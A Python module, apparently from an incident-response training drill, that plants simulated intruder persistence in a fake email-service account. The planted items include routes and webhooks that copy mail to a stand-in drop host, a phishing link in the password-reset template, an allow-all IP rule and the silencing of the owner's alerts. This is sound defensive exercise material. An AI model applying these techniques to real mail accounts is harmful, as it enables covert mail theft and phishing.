"""What the intruder left behind before the drill opened: one function a hiding place (dossier F)."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from workbench.drill.world.records import (
    Allowed,
    Member,
    SimulatedAccountWebhook,
    SimulatedCredential,
    SimulatedDkimKey,
    SimulatedDomain,
    SimulatedKey,
    SimulatedMailingList,
    SimulatedRegion,
    SimulatedRoute,
    SimulatedSuppression,
    SubmittedMessage,
    Tenant,
    World,
)
from workbench.drill.world.story import Story, current_secret, hexes

# The intruder's own host, where copies of mail and events go.
DROP_HOST = "collect.mx-audit.example"


class Garden:
    """Where things are planted: the world, its story, a clock that moves on, and the list for ``truth``."""

    def __init__(self, world: World, story: Story) -> None:
        self.world = world
        self.story = story
        self.main = world.tenants[world.main]
        self.rng = story.rng("plants")
        self._moment = story.planted_at.timestamp()

    def tick(self) -> float:
        """Return the moment of the next planting, a few minutes after the one before."""
        self._moment += self.rng.randrange(60, 400)
        return min(self._moment, self.story.start.timestamp() - 60.0)

    def note(self, item: str, kind: str, where: list[str], name: str, **more: Any) -> None:
        """Record a planted item as the ground truth names it."""
        self.world.planted.append({"id": item, "kind": kind, "where": where, "name": name, **more})

    def domains(self, region: str = "") -> list[tuple[str, SimulatedDomain]]:
        """Return the custom domains with their region, the customer's main one first."""
        return [
            (name, domain)
            for name, area in self.main.regions.items()
            for domain in area.domains.values()
            if domain.type == "custom" and region in ("", name)
        ]

    def pick(self, index: int) -> tuple[str, SimulatedDomain]:
        """Return the custom domain of this index, counted round."""
        domains = self.domains()
        return domains[index % len(domains)]


def plant(world: World, story: Story) -> None:
    """Put everything the scenario plants into the world and list it in ``world.planted``."""
    garden = Garden(world, story)
    _from_story(garden)
    for name in story.scenario.plants:
        maker = _MAKERS.get(name)
        if maker is not None and (garden.domains() or name in _NEED_NO_DOMAIN):
            maker(garden)


def _from_story(garden: Garden) -> None:
    """List the keys, logins and users that the story already made."""
    for key in garden.story.keys:
        if key.planted:
            where = [key.region, key.domain] if key.domain else ["global"]
            garden.note(key.id, "key", where, key.name, role=key.role, key_kind=key.kind)
    for login in garden.story.logins:
        if login.planted:
            garden.note(login.login, "credential", [login.region, login.domain], login.login)
    for user in garden.story.users:
        if user.planted:
            garden.note(user.id, "user", ["global"], user.email, role=user.role)


def _subaccount(garden: Garden) -> None:
    rng, moment = garden.rng, garden.tick()
    slug = garden.story.slug
    tenant = Tenant(
        id=hexes(rng, 24),
        name=f"{slug} notifications",
        created=moment,
        updated=moment,
        parent=garden.main.id,
        signing_key=f"key-{hexes(rng, 32)}",
        regions={"us": SimulatedRegion()},
    )
    name = f"mail-{slug}.example"
    domain = SimulatedDomain(
        name, hexes(rng, 24), moment + 60.0, dkim=[SimulatedDkimKey("pic", f"k=rsa; p={hexes(rng, 160)}")]
    )
    login = f"postmaster@{name}"
    domain.credentials[login] = SimulatedCredential(login, current_secret(rng), moment + 60.0, system=True)
    tenant.regions["us"].domains[name] = domain
    secret = current_secret(rng)
    tenant.keys[secret[33:]] = SimulatedKey(
        secret[33:], secret, "relay", "domain", "sending", moment + 120.0, moment + 120.0, domain=name
    )
    garden.world.tenants[tenant.id] = tenant
    garden.note(tenant.id, "subaccount", ["global"], tenant.name)


def _route(garden: Garden) -> None:
    region, domain = garden.pick(0)
    moment = garden.tick()
    route = SimulatedRoute(
        hexes(garden.rng, 24),
        0,
        "archive",
        f"match_recipient('.*@{domain.name}')",
        [f'forward("https://{DROP_HOST}/in")'],
        moment,
    )
    garden.main.regions[region].routes[route.id] = route
    garden.note(route.id, "route", [region], route.description, expression=route.expression)


def _domain_webhook(garden: Garden) -> None:
    region, domain = garden.pick(1)
    url = f"https://{DROP_HOST}/events"
    domain.webhooks.setdefault("delivered", []).append(url)
    garden.note(url, "webhook", [region, domain.name, "delivered"], url)


def _account_webhook(garden: Garden) -> None:
    region = "eu" if "eu" in garden.main.regions else "us"
    hook = SimulatedAccountWebhook(
        hexes(garden.rng, 24), f"https://{DROP_HOST}/account", ["delivered", "opened"], garden.tick(), "stats"
    )
    garden.main.regions[region].webhooks[hook.id] = hook
    garden.note(hook.id, "webhook", [region], hook.description, url=hook.url)


def _archive_to(garden: Garden) -> None:
    region, domain = garden.pick(2)
    domain.archive_to = f"https://{DROP_HOST}/archive"
    garden.note(domain.archive_to, "archive-to", [region, domain.name], domain.archive_to)


def _template_header(garden: Garden) -> None:
    for region, domain in garden.domains():
        template = domain.templates.get("password-reset")
        if template is not None:
            version = next(iter(template.versions.values()))
            # Editing a version leaves no date (dossier B4).
            version.headers["Reply-To"] = f"helpdesk@{DROP_HOST.partition('.')[2]}"
            garden.note(template.id, "template", [region, domain.name], template.name, version=version.tag)
            return


def _dkim_key(garden: Garden) -> None:
    region, domain = garden.pick(1)
    domain.dkim.append(
        SimulatedDkimKey("s2", f"k=rsa; p={hexes(garden.rng, 160)}", active=True, imported=True)
    )
    garden.note("s2", "dkim-key", [region, domain.name], f"s2._domainkey.{domain.name}")


def _mailing_list(garden: Garden) -> None:
    region, domain = garden.pick(0)
    address = f"updates@{domain.name}"
    created = SimulatedMailingList(
        address, "Updates", "", garden.tick(), access_level="everyone", reply_preference="sender"
    )
    for number in range(25):
        member = f"lead{number:02d}{hexes(garden.rng, 4)}@inbox.example"
        created.members[member] = Member(member)
    garden.main.regions[region].lists[address] = created
    garden.note(address, "mailing-list", [region], created.name)


def _suppression_allow(garden: Garden) -> None:
    region, domain = garden.pick(0)
    value = "bulk-inbox.example"
    domain.whitelists[value] = SimulatedSuppression(
        value, garden.tick(), {"type": "domain", "reason": "partner"}
    )
    garden.note(value, "suppression-allow", [region, domain.name], value)


def _sandbox_recipient(garden: Garden) -> None:
    address = f"probe@{DROP_HOST.partition('.')[2]}"
    garden.main.sandbox_recipients[address] = True
    garden.note(address, "sandbox-recipient", ["global"], address)


def _footer(garden: Garden) -> None:
    region, domain = garden.pick(3)
    domain.tracking.unsubscribe_active = True
    domain.tracking.html_footer = f'\n<p><a href="https://{DROP_HOST}/confirm">Confirm your account</a></p>\n'
    garden.note(domain.name, "tracking", [region, domain.name], "unsubscribe.html_footer")


def _alert(garden: Garden) -> None:
    for region, area in garden.main.regions.items():
        for rule in area.alerts.values():
            rule.limit, rule.updated = "0.99", garden.tick()
            garden.note(rule.name, "alert", [region], rule.name)
            return


def _allowlist(garden: Garden) -> None:
    """Fill the allowlist with the intruder's network and the customer's servers, without the responder."""
    network = garden.story.intruder_ips[0].rpartition(".")[0] + ".0/24"
    garden.main.allowlist = [
        Allowed(host.ip, host.name) for host in garden.story.hosts if host.role != "office"
    ]
    garden.main.allowlist.append(Allowed(network, "vpn"))
    garden.note(network, "allowlist", ["global"], "vpn")


def _allow_all(garden: Garden) -> None:
    """Put the whole internet on the list beside the customer's servers: it looks filled and protects nothing."""
    garden.main.allowlist = [Allowed(host.ip, host.name) for host in garden.story.hosts]
    garden.main.allowlist.append(Allowed("0.0.0.0/0", "office and cloud"))
    garden.note("0.0.0.0/0", "allowlist", ["global"], "office and cloud")


def _raised_limit(garden: Garden) -> None:
    for region, area in garden.main.regions.items():
        area.custom_limit = 900_000
        garden.note(f"{region}-monthly", "limit", [region], "monthly limit", limit=900_000)
        return


def _edited_route(garden: Garden) -> None:
    """Have the customer's own support route send a copy away; editing it leaves no date."""
    for region, area in garden.main.regions.items():
        for route in area.routes.values():
            if "match_recipient('support@" in route.expression:
                route.actions = [
                    *route.actions[:1],
                    f'forward("https://{DROP_HOST}/copy")',
                    *route.actions[1:],
                ]
                garden.note(route.id, "route", [region], route.description, edited=True)
                return


def _wildcard(garden: Garden) -> None:
    region, domain = garden.pick(1)
    domain.wildcard = True
    garden.note(f"{domain.name} wildcard", "domain-setting", [region, domain.name], "wildcard")


def _emptied_complaints(garden: Garden) -> None:
    region, domain = garden.pick(0)
    domain.complaints.clear()
    garden.note(f"complaints {domain.name}", "suppressions-emptied", [region, domain.name], domain.name)


def _silenced_victim(garden: Garden) -> None:
    """Put the owner on the unsubscribes: warnings that the customer's programs mail no longer arrive."""
    region, domain = garden.pick(0)
    owner = next(user for user in garden.story.users if user.is_owner)
    domain.unsubscribes[owner.email] = SimulatedSuppression(owner.email, garden.tick(), {"tags": ["*"]})
    garden.note(f"unsubscribes {owner.email}", "suppression", [region, domain.name], owner.email)


def _template_body(garden: Garden) -> None:
    """Edit the password-reset mail so that it leads to the intruder's page; its headers stay as they were."""
    for region, domain in garden.domains():
        template = domain.templates.get("password-reset")
        if template is not None:
            version = next(iter(template.versions.values()))
            link = f'<p><a href="https://login.{DROP_HOST.partition(".")[2]}/reset">Choose a new password</a></p>'
            version.template = version.template.replace("</body>", f"{link}</body>")
            garden.note(template.id, "template", [region, domain.name], template.name, version=version.tag)
            return


def _renamed(garden: Garden) -> None:
    """Rename the organisation; no call shows its name, so it is no planted thing that a sweep can point to."""
    garden.main.name = "Mail Security Operations"


def _loot_mail(garden: Garden) -> None:
    """A test message to a drop mailbox with the loot in its subject: the intruder tries whether the key sends."""
    stolen = garden.story.stolen_key
    domains = garden.domains()
    if stolen is None or not domains:
        return
    region, domain = domains[0]
    sent = SubmittedMessage(
        f"loot{hexes(garden.rng, 12)}",
        garden.main.id,
        region,
        domain.name,
        garden.tick(),
        "http",
        stolen.id,
        garden.story.intruder_ips[0],
        f"test@{domain.name}",
        [f"drop@{DROP_HOST.partition('.')[2]}"],
        f"works {stolen.secret}",
    )
    garden.world.sent.append(sent)


def _list_spam(garden: Garden) -> None:
    """A part of the spam goes to the members of the customer's own mailing list."""
    lists = [address for area in garden.main.regions.values() for address in sorted(area.lists)]
    garden.world.spammed_list = lists[0] if lists else ""


_MAKERS: dict[str, Callable[[Garden], None]] = {
    "subaccount": _subaccount,
    "route": _route,
    "domain-webhook": _domain_webhook,
    "account-webhook": _account_webhook,
    "archive-to": _archive_to,
    "template-header": _template_header,
    "dkim-key": _dkim_key,
    "mailing-list": _mailing_list,
    "suppression-allow": _suppression_allow,
    "sandbox-recipient": _sandbox_recipient,
    "unsubscribe-footer": _footer,
    "alert": _alert,
    "allowlist": _allowlist,
    "allow-all": _allow_all,
    "raised-limit": _raised_limit,
    "edited-route": _edited_route,
    "wildcard": _wildcard,
    "emptied-complaints": _emptied_complaints,
    "silenced-victim": _silenced_victim,
    "template-body": _template_body,
    "renamed": _renamed,
    "loot-mail": _loot_mail,
    "list-spam": _list_spam,
}
_NEED_NO_DOMAIN = frozenset(
    {"subaccount", "allowlist", "sandbox-recipient", "allow-all", "raised-limit", "renamed"}
)
